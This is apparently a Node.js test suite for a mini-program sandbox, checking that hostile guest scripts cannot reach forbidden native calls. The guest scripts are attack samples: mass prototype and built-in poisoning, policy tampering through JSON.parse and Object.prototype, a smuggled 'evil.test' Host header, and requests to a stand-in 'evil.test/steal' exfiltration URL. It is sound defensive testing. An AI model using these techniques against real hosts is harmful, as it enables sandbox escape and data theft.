/** Hostile guests in realms of their own (threat classes O, U, S, P): nothing forbidden reaches the native side. */
import assert from "node:assert/strict";
import test, { after } from "node:test";
import { attacks } from "./attacks.js";
import { BITES } from "./bites.js";
import { runGuest } from "./guest.js";
import { policy } from "./host.js";
import { escaped, isForbidden, isTold } from "./verdict.js";
import { writeTally } from "../../escape/tally.js";

const tallies = [];
after(() => writeTally("node", tallies));

for (const [name, rows] of Object.entries(attacks)) {
  test(name, { concurrency: 2 }, async (t) => {
    const tally = { name: `${name}, Node`, attempts: 0, bites: 0, stopped: 0, impossible: [], controls: 0 };
    tallies.push(tally);
    await Promise.all(rows.map((row, i) => t.test(row.say, async () => {
      if (row.control) tally.controls += 1;
      else {
        tally.attempts += 1;
        assert.ok(escaped(row, await runGuest({ ...row, by: BITES[name][i] })), `must get past the naive guard \`${BITES[name][i]}\``);
        tally.bites += 1;
      }
      const { wire, said, errors } = await runGuest(row);
      assert.deepEqual(wire.filter(isForbidden), [], row.guest);
      if (row.honest) assert.deepEqual(wire, row.honest, `honest calls: ${row.guest}\n${said}`);
      if (row.wire) assert.deepEqual(wire.filter((line) => !isForbidden(line)), row.wire, `${row.guest}\n${said}`);
      if (row.said) assert.deepEqual(said.filter((line) => line !== "unhandled rejection"), row.said);
      if (row.silent) assert.deepEqual(said.filter(isTold), []);
      if (row.say !== "a full stack fails closed") assert.deepEqual(errors, []);
      if (!row.control) tally.stopped += 1;
    })));
  });
}

test("every built-in at once", async (t) => {
  for (const kind of ["throws", "is undefined", "says true"]) {
    await t.test(`a built-in that ${kind}`, async () => {
      const value = { throws: "() => { throw new Error('poison'); }", "is undefined": "undefined", "says true": "() => true" }[kind];
      const guest = `
        const calls = [() => my.request({ url: EVIL }), () => my.request({ url: GOOD }), () => my.call('secretApi'), () => my.call('tinyToNative'), () => AlipayJSBridge.call('httpRequest', { url: EVIL })];
        const own = Reflect.ownKeys, desc = Object.getOwnPropertyDescriptor, define = Object.defineProperty, T = Object.getPrototypeOf(Uint8Array.prototype);
        const roots = [Object, Function, Array, String, Number, Boolean, Symbol, Promise, Map, WeakMap, Set, RegExp, Error, TypeError, JSON, Math, Reflect, WebAssembly, WebAssembly.Instance, WebAssembly.Module, WebAssembly.Memory, Uint8Array, ArrayBuffer, DataView, TextEncoder, TextDecoder, Proxy, Date, { prototype: T }, Function.prototype, { prototype: Object.getPrototypeOf(async function () {}) }];
        const targets = []; for (const r of roots) { targets.push(r); if (r.prototype) targets.push(r.prototype); }
        const todo = []; for (const target of targets) for (const k of own(target)) { const d = desc(target, k); if (d.configurable && (typeof d.value === 'function' || d.get)) todo.push([target, k, d]); }
        say('poisoned ' + todo.length);
        for (let i = 0; i < todo.length; i += 1) { const t = todo[i][0], k = todo[i][1], d = todo[i][2]; let wrong = '';
          try { define(t, k, d.get ? { get: ${value}, configurable: true } : { value: ${value}, configurable: true, writable: true }); } catch { continue; }
          for (let j = 0; j < 5; j += 1) try { calls[j](); } catch (e) { wrong = 'threw'; }
          define(t, k, d); }`;
      const { wire, said } = await runGuest({ guest });
      assert.deepEqual(wire.filter(isForbidden), []);
      const count = Number(/poisoned (\d+)/.exec(said.join())[1]);
      assert.ok(count > 300, `${count} built-ins`);
      t.diagnostic(`${count} built-ins, ${wire.length} honest calls arrived`);
      assert.ok(wire.length > count, "honest calls still arrive");
    });
  }
});

test("a policy swapped after the realm was poisoned is read by the engine alone", async () => {
  const { wire, said } = await runGuest({
    guest: "JSON.parse = () => ({ mode: 'off', serverDomains: { enabled: false } }); Object.prototype.mode = 'off'; Object.prototype.enabled = false; String.prototype.charCodeAt = () => 32;",
    after: policy({ revision: 2 }),
  });
  assert.deepEqual(wire, ["request https://api.good.test/v1"]);
  assert.ok(said.includes("updated"), said.join());
});

/** The honest and the forbidden calls of the poisoned rows, without poison. */
const duty = "my.request({ url: EVIL }); my.request({ url: GOOD }); my.call('secretApi'); my.call('tinyToNative'); my.request({ url: GOOD, headers: { Host: 'evil.test' } });";
test("the naive guards do their duty while nothing is poisoned", { concurrency: 2 }, async (t) => {
  await Promise.all([...new Set(BITES.poison)].filter((by) => by !== null).map((by) => t.test(by, async () => {
    const { wire } = await runGuest({ guest: duty, by });
    assert.deepEqual(wire.toSorted(), ["call(tinyToNative)", "request https://api.good.test/v1"]);
  })));
});

test("the recorder sees what an unguarded realm would do", async () => {
  const { wire } = await runGuest({ guest: "my.request({ url: EVIL }); my.payDirect(); my.request({ url: GOOD, success() { this.send('x'); } });", by: "nobody" });
  assert.deepEqual(wire, ["request https://evil.test/steal", "payDirect", "request https://api.good.test/v1", "leaked x"]);
});
